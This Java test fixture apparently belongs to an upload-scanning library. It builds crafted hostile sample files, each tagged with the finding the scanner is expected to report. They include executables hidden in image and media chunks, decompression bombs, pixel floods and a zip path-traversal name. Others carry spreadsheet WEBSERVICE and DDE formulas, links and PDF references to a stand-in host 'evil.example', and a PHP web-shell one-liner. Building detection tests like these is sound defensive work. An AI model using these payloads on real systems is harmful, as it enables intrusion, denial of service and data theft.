package io.cybersensei.upload.testing;

import static io.cybersensei.upload.testing.TestFile.bytes;
import static io.cybersensei.upload.testing.TestFile.chunk;
import static io.cybersensei.upload.testing.TestFile.deflate;
import static io.cybersensei.upload.testing.TestFile.docx;
import static io.cybersensei.upload.testing.TestFile.docxWith;
import static io.cybersensei.upload.testing.TestFile.honest;
import static io.cybersensei.upload.testing.TestFile.join;
import static io.cybersensei.upload.testing.TestFile.odt;
import static io.cybersensei.upload.testing.TestFile.pdf;
import static io.cybersensei.upload.testing.TestFile.png;
import static io.cybersensei.upload.testing.TestFile.u32;
import static io.cybersensei.upload.testing.TestFile.u32le;
import static io.cybersensei.upload.testing.TestFile.zip;

import io.cybersensei.upload.type.FindingCode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Supplier;

/** Files with a trick, each with the finding that names it. */
public final class HostileFiles {

  private static final byte[] PROGRAM =
      bytes("MZ\u0090\0\u0003\0\0\0 This program cannot be run in DOS mode.\r\r\n$");
  private static final byte[] LINUX_PROGRAM = bytes("\u007FELF\u0002\u0001\u0001\0 and more");
  private static final byte[] RAR = bytes("Rar!\u001A\u0007\u0001\0 and more");

  private final Map<String, Trick> tricks = new LinkedHashMap<>();

  private HostileFiles() {}

  /**
   * A trick.
   *
   * @param file the name of the file, of which the type is that of the extension
   * @param code the finding
   * @param content makes the content
   */
  public record Trick(String file, FindingCode code, Supplier<byte[]> content) {

    @Override
    public String toString() {
      return file + " " + code;
    }
  }

  /** Returns all tricks, by the names of their files. */
  public static Map<String, Trick> all() {
    HostileFiles files = new HostileFiles();
    files.pictures();
    files.floods();
    files.recordings();
    files.documents();
    files.tables();
    files.pdfs();
    files.large();
    return files.tricks;
  }

  private void add(String file, FindingCode code, Supplier<byte[]> content) {
    tricks.put(file, new Trick(file, code, content));
  }

  private void pictures() {
    add("program-in-chunk.png", FindingCode.HIDDEN_DATA, () -> png(9, 9, chunk("prVt", PROGRAM)));
    add(
        "archive-far-from-the-end.png",
        FindingCode.SECOND_SIGNATURE,
        () -> png(9, 9, chunk("tEXt", join(bytes("Comment\0"), RAR, new byte[70_000]))));
    add("program-in-segment.jpg", FindingCode.HIDDEN_DATA, () -> jpegWith(PROGRAM));
    add("archive-in-segment.jpg", FindingCode.SECOND_SIGNATURE, () -> jpegWith(RAR));
    add("program-in-comment.gif", FindingCode.HIDDEN_DATA, () -> gif(9, 1, LINUX_PROGRAM));
    add(
        "program-in-chunk.webp",
        FindingCode.HIDDEN_DATA,
        () -> riff("WEBP", webpImage(), riffChunk("JUNK", PROGRAM)));
  }

  private void floods() {
    add("many-frames.gif", FindingCode.PIXEL_FLOOD, () -> gif(6_000, 20_000, bytes("hello")));
    add("many-frames.png", FindingCode.PIXEL_FLOOD, () -> png(6_000, 6_000, frames(5_000)));
    add("huge-frame.webp", FindingCode.PIXEL_FLOOD, () -> webp(1, 1 << 24));
    add("many-frames.webp", FindingCode.PIXEL_FLOOD, () -> webp(90_000, 6_000));
    add(
        "many-scans.jpg",
        FindingCode.DAMAGED,
        () -> {
          byte[] jpg = honest("a.jpg");
          int scan = TestFile.find(jpg, "\u00FF\u00DA");
          int length = (jpg[scan + 2] << 8 | jpg[scan + 3]) + 2;
          byte[] empty = join(Arrays.copyOfRange(jpg, scan, scan + length), new byte[4]);
          return join(
              Arrays.copyOf(jpg, jpg.length - 2), repeat(empty, 20_000), bytes("\u00FF\u00D9"));
        });
  }

  private void recordings() {
    add("program-in-box.mp4", FindingCode.HIDDEN_DATA, () -> withBox(box("free", PROGRAM)));
    byte[] references =
        box(
            "dref",
            join(
                new byte[7], new byte[] {1}, box("url ", bytes("\0\0\0\0http://evil.example/\0"))));
    byte[] track = box("trak", box("mdia", box("minf", box("dinf", references))));
    byte[] movie = box("moov", join(box("mvhd", new byte[100]), track));
    add("media-elsewhere.mp4", FindingCode.EXTERNAL_RELATIONSHIP, () -> video("isom", movie));
    add("media-elsewhere.mov", FindingCode.EXTERNAL_RELATIONSHIP, () -> video("qt  ", movie));
    byte[] alternative = box("moov", join(box("mvhd", new byte[100]), box("rmra", new byte[30])));
    add("movie-elsewhere.mov", FindingCode.EXTERNAL_RELATIONSHIP, () -> video("qt  ", alternative));
    add(
        "playlist.avi",
        FindingCode.EXTERNAL_RELATIONSHIP,
        () -> aviWith(bytes("GAB2\0\u0002\0#EXTM3U\n#EXTINF:1.0,\nfile:///etc/passwd\n ")));
    add("program-in-chunk.avi", FindingCode.HIDDEN_DATA, () -> aviWith(PROGRAM));
    add(
        "program-as-picture.mkv",
        FindingCode.EMBEDDED_FILE,
        () -> {
          byte[] mkv = honest("live.mkv");
          byte[] file =
              element(
                  0x61A7,
                  join(element(0x4660, bytes("image/png")), element(0x465C, bytes("MZ\u0090 x"))));
          return join(mkv, element(0x1941A469L, file));
        });
    add(
        "program-in-tag.mp3",
        FindingCode.HIDDEN_DATA,
        () -> {
          byte[] frame = join(bytes("GEOB"), u32(PROGRAM.length), new byte[2], PROGRAM);
          byte[] tag = join(bytes("ID3\u0003\0\0\0\0\0"), new byte[] {(byte) frame.length}, frame);
          return join(tag, honest("low.mp3"));
        });
  }

  private void documents() {
    add(
        "page.docx",
        FindingCode.EMBEDDED_FILE,
        () -> docxWith("word/afchunk.dat", bytes("<html><script>alert(1)</script></html>")));
    add(
        "rich-text.docx",
        FindingCode.EMBEDDED_FILE,
        () -> docxWith("word/afchunk.rtf", bytes("{\\rtf1{\\object\\objemb}}")));
    add(
        "program-in-picture.docx",
        FindingCode.EMBEDDED_FILE,
        () -> docxWith("word/media/image1.emf", join(bytes("xx"), PROGRAM)));
    add(
        "prefix.docx",
        FindingCode.DYNAMIC_DATA_EXCHANGE,
        () -> docxWith("xl/externalLinks/e.xml", bytes("<q:ddeLink ddeService='cmd'/>")));
    add(
        "two-names.docx",
        FindingCode.DAMAGED,
        () -> {
          byte[] file = docxWith("word/aaaaaaaaaa.xml", bytes("<x/>"));
          return withUnicodePath(file, "../../evil.sh");
        });
    add("quotes.odt", FindingCode.EXTERNAL_RELATIONSHIP, () -> odtWith("draw:image", '\''));
    add("prefix.odt", FindingCode.EXTERNAL_RELATIONSHIP, () -> odtWith("d:image", '"'));
    add(
        "reference.odt",
        FindingCode.EXTERNAL_RELATIONSHIP,
        () -> odtWith("<draw:image xlink:href=\"&#104;t&#x74;p://evil.example/p.png\"/>"));
    add(
        "hidden-macro.odt",
        FindingCode.MACRO,
        () -> odtWith("<a xlink:href=\"vnd&#46;sun.star.script:a.b?language=Basic\"/>"));
  }

  private void tables() {
    add(
        "refreshed.xlsx",
        FindingCode.EXTERNAL_RELATIONSHIP,
        () ->
            xlsxWith(
                "xl/connections.xml",
                "<connections><connection refreshOnLoad=\"1\"><webPr url=\"http://evil.example/\"/>"
                    + "</connection></connections>"));
    add(
        "service.xlsx",
        FindingCode.DYNAMIC_DATA_EXCHANGE,
        () ->
            xlsxWith(
                "xl/worksheets/sheet1.xml",
                "<c><f>_xlfn.WEBSERVICE(\"http://evil.example/\"&amp;A1)</f></c>"));
    add(
        "server.csv",
        FindingCode.DYNAMIC_DATA_EXCHANGE,
        () -> bytes("a,b\n=RTD(\"x.y\",,\"z\"),1"));
    add("refresh.txt", FindingCode.TYPE_MISMATCH, () -> bytes("<meta http-equiv=refresh>"));
    add("frames.md", FindingCode.TYPE_MISMATCH, () -> bytes("<frameset><frame src=x>"));
    add("php.txt", FindingCode.TYPE_MISMATCH, () -> bytes("<?= system($_GET[0]) ?>"));
    add("jsp.txt", FindingCode.TYPE_MISMATCH, () -> bytes("<% Runtime.getRuntime(); %>"));
  }

  private void pdfs() {
    object(
        "script-address.pdf", FindingCode.PDF_JAVASCRIPT, "<</S/URI/URI( JavaScript:alert(1))>>");
    object("file.pdf", FindingCode.PDF_EMBEDDED_FILE, "<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>");
    object(
        "bytes-elsewhere.pdf",
        FindingCode.PDF_REMOTE_FILE,
        "<</Length 0/F<</FS/URL/F(http://evil.example/x)>>>>stream\n\nendstream");
    object("movie.pdf", FindingCode.PDF_REMOTE_FILE, "<</Movie<</F(http://evil.example/x)>>>>");
  }

  private void object(String file, FindingCode code, String object) {
    add(file, code, () -> pdf("3 0 obj\n" + object + "\nendobj"));
  }

  /** Files that take time or memory. */
  private void large() {
    add(
        "bomb.docx",
        FindingCode.DECOMPRESSION_BOMB,
        () -> {
          Map<String, byte[]> parts = docx();
          parts.put("word/media/a.xml", new byte[40 << 20]);
          return zip(parts);
        });
    add(
        "text-bomb.png",
        FindingCode.DECOMPRESSION_BOMB,
        () -> png(9, 9, chunk("zTXt", join(bytes("Comment\0\0"), deflate(new byte[30 << 20])))));
    add(
        "object-bomb.pdf",
        FindingCode.DECOMPRESSION_BOMB,
        () ->
            pdf(
                join(
                    bytes("3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n"),
                    deflate(new byte[40 << 20]),
                    bytes("\nendstream endobj"))));
    add("flood.png", FindingCode.PIXEL_FLOOD, () -> png(100_000, 100_000));
    add(
        "endless.mp4",
        FindingCode.DAMAGED,
        () -> join(honest("a.mp4"), repeat(box("free", new byte[0]), 1_000_000)));
    add(
        "late.txt",
        FindingCode.NOT_TEXT,
        () -> {
          byte[] text = new byte[15 << 20];
          Arrays.fill(text, (byte) 'a');
          text[text.length - 1] = 1;
          return text;
        });
  }

  private static byte[] repeat(byte[] part, int times) {
    byte[] all = new byte[part.length * times];
    for (int i = 0; i < times; i++) {
      System.arraycopy(part, 0, all, i * part.length, part.length);
    }
    return all;
  }

  private static byte[] u16le(int number) {
    return Arrays.copyOf(u32le(number), 2);
  }

  private static byte[] u24le(int number) {
    return Arrays.copyOf(u32le(number), 3);
  }

  private static byte[] jpegWith(byte[] data) {
    byte[] jpg = honest("a.jpg");
    byte[] segment =
        join(bytes("\u00FF\u00E5"), Arrays.copyOfRange(u32(data.length + 2), 2, 4), data);
    return join(Arrays.copyOf(jpg, 2), segment, Arrays.copyOfRange(jpg, 2, jpg.length));
  }

  private static byte[] gif(int size, int frames, byte[] comment) {
    byte[] screen = join(u16le(size), u16le(size));
    byte[] frame = join(bytes(",\0\0\0\0"), screen, bytes("\0\u0002\u0002L\u0001\0"));
    return join(
        bytes("GIF89a"),
        screen,
        bytes("\u0080\0\0\0\0\0\u00FF\u00FF\u00FF!\u00FE"),
        new byte[] {(byte) comment.length},
        comment,
        new byte[1],
        repeat(frame, frames),
        bytes(";"));
  }

  private static byte[] frames(int count) {
    byte[] control =
        join(u32(0), u32(6_000), u32(6_000), u32(0), u32(0), bytes("\0\u0001\0\n\0\0"));
    return repeat(chunk("fcTL", control), count);
  }

  private static byte[] riffChunk(String type, byte[] data) {
    return join(bytes(type), u32le(data.length), data, new byte[data.length & 1]);
  }

  private static byte[] riff(String form, byte[]... chunks) {
    byte[] all = join(chunks);
    return join(bytes("RIFF"), u32le(all.length + 4), bytes(form), all);
  }

  private static byte[] webpImage() {
    byte[] webp = honest("a.webp");
    return Arrays.copyOfRange(webp, 12, webp.length);
  }

  private static byte[] webp(int frames, int size) {
    byte[] canvas = riffChunk("VP8X", join(bytes("\u0002\0\0\0"), u24le(5_999), u24le(5_999)));
    byte[] frame =
        riffChunk("ANMF", join(new byte[6], u24le(size - 1), u24le(size - 1), new byte[4]));
    return riff("WEBP", canvas, riffChunk("ANIM", new byte[6]), repeat(frame, frames));
  }

  private static byte[] box(String type, byte[] data) {
    return join(u32(8 + data.length), bytes(type), data);
  }

  private static byte[] withBox(byte[] box) {
    return join(honest("a.mp4"), box);
  }

  private static byte[] video(String brand, byte[] movie) {
    return join(
        box("ftyp", join(bytes(brand), u32(512), bytes(brand))), movie, box("mdat", bytes("x")));
  }

  private static byte[] aviWith(byte[] data) {
    byte[] avi = honest("a.avi");
    byte[] junk = riffChunk("JUNK", data);
    return join(
        bytes("RIFF"),
        u32le(avi.length - 8 + junk.length),
        Arrays.copyOfRange(avi, 8, avi.length),
        junk);
  }

  private static byte[] element(long id, byte[] data) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] name = u32(id);
    int first = 0;
    while (name[first] == 0) {
      first++;
    }
    out.write(name, first, 4 - first);
    out.write(0x10);
    out.write(u32(data.length), 1, 3);
    out.writeBytes(data);
    return out.toByteArray();
  }

  private static byte[] odtWith(String element, char quote) {
    return odtWith(
        "<" + element + " l:href = " + quote + "http://evil.example/p.png" + quote + "/>");
  }

  private static byte[] odtWith(String content) {
    Map<String, byte[]> parts = odt();
    parts.put("content.xml", bytes("<x>" + content + "</x>"));
    return zip(parts);
  }

  private static byte[] xlsxWith(String name, String part) {
    Map<String, byte[]> parts = docx();
    String types = new String(parts.get("[Content_Types].xml"), StandardCharsets.UTF_8);
    parts.put(
        "[Content_Types].xml",
        bytes(types.replace("wordprocessingml.document.main", "spreadsheetml.sheet.main")));
    parts.put(name, bytes(part));
    return zip(parts);
  }

  /** Gives the last entry of an archive a second name in a field of Info-ZIP. */
  private static byte[] withUnicodePath(byte[] file, String name) {
    byte[] field = join(bytes("up"), u16le(5 + name.length()), new byte[5], bytes(name));
    String text = new String(file, StandardCharsets.ISO_8859_1);
    int entry = text.lastIndexOf("PK\u0001\u0002");
    int nameLength = file[entry + 28];
    int after = entry + 46 + nameLength;
    byte[] longer =
        join(Arrays.copyOf(file, after), field, Arrays.copyOfRange(file, after, file.length));
    byte[] counted = TestFile.patch(longer, entry + 30, u16le(field.length));
    int end = counted.length - 22;
    int size = (counted[end + 12] & 0xFF) | (counted[end + 13] & 0xFF) << 8;
    return TestFile.patch(counted, end + 12, u32le(size + field.length));
  }
}
